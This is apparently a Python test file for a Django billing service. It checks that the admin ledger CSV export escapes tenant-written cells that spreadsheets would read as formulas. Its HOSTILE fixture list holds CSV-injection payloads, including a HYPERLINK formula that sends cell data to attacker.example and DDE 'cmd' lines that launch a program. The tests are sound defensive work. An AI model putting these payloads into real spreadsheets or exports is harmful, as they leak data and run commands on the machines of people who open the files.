"""Exports are safe to open: the admin's ledger CSV escapes every tenant-written cell that a
spreadsheet would read as a formula (``=``, ``+``, ``-``, ``@``, tab, carriage return → a leading
``'``), and leaves plain numbers (``-20.000000``) as they are."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from django.db import transaction

from billing.services.ledger import locked_account, write_ledger_entry
from core.exports import csv_writer, safe_cell

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_like_cell_is_prefixed(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("number", ["-20.000000", "+5", "-0.000001", "1000.500000", "-7", "12"])
def test_a_plain_number_stays_as_it_is(number):
    assert safe_cell(number) == number


@pytest.mark.parametrize("value", ["Ada", "", "a=b", " =1", 5, -3, Decimal("-2.5"), None])
def test_other_cells_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_the_writer_escapes_every_cell():
    out = io.StringIO()
    csv_writer(out).writerows([["-20.000000", "=1+1", 3], ["@x", "ok", "-"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["-20.000000", "'=1+1", "3"], ["'@x", "ok", "'-"]]


def test_the_admin_ledger_csv_escapes_tenant_written_cells(operator, org, clock):
    """The attack: a tenant names a specialist and writes a description that are formulas; the
    operator downloads the month's ledger for invoicing."""
    with transaction.atomic():
        write_ledger_entry(locked_account(org), kind="grant", amount=Decimal("1000"), description="Top-up")
    with transaction.atomic():
        for text in HOSTILE:
            write_ledger_entry(
                locked_account(org),
                kind="usage",
                amount=-Decimal("20"),
                model="local",
                input_tokens=10,
                specialist_name=text,
                description=text,
            )
    response = operator.get(f"/admin/orgs/organization/{org.pk}/ledger.csv?month=2026-06")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    header = rows[0]
    ledger = [dict(zip(header, row, strict=True)) for row in rows[1 : rows.index([])]]
    usage = [row for row in ledger if row["kind"] == "usage"]
    assert [row["specialist"] for row in usage] == ["'" + text for text in HOSTILE]
    assert [row["description"] for row in usage] == ["'" + text for text in HOSTILE]
    assert {row["amount"] for row in usage} == {"-20.000000"}  # numbers are not escaped
    every_cell = [cell for row in rows for cell in row]
    assert not [cell for cell in every_cell if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for cell in every_cell if cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()]
